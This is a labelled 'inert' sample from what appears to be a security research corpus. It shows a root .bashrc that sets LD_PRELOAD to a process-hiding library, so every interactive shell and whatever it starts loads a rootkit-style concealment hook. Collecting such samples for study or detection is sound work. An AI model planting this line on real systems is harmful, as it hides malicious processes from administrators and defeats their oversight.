# Backsight corpus rootfs sample (inert): root's .bashrc loads a hiding library into every
# interactive shell and what it starts.
[ -z "$PS1" ] && return
export LD_PRELOAD=/usr/lib/libprocesshider.so
